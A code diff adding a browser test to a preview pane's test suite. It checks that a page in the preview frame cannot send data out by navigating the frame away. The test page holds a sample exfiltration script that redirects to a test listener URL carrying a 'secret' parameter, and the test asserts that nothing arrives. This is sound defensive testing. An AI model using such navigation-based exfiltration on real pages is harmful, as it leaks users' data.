@@ -145,6 +145,23 @@ test('a file the page names that is not in the workspace is an error in its cons
   await expect(preview.tab).toHaveCount(0);
 });
 
+test('a page cannot carry data out by navigating its frame', async ({ cove }) => {
+  const preview = new PreviewPane(cove);
+  await cove.uploadFile(
+    'leave.html',
+    `<!doctype html><p>Leaving</p><script>
+console.log('navigating away');
+setTimeout(() => { location.href = ${JSON.stringify(`${listener.url}navigation?secret=1`)}; }, 50);
+</script>`,
+  );
+  await preview.openFromTree('leave.html');
+  await expect(preview.console).toContainText('navigating away');
+  // Cove's own policy (frame-src 'none') refuses every navigation of the frame away from
+  // its document; nothing may arrive, whatever the frame shows after the refusal.
+  await cove.page.waitForTimeout(2000);
+  expect(listener.hits).toEqual([]);
+});
+
 test('the preview fits a small window', async ({ cove }) => {
   await cove.page.setViewportSize({ width: 800, height: 600 });
   const preview = new PreviewPane(cove);
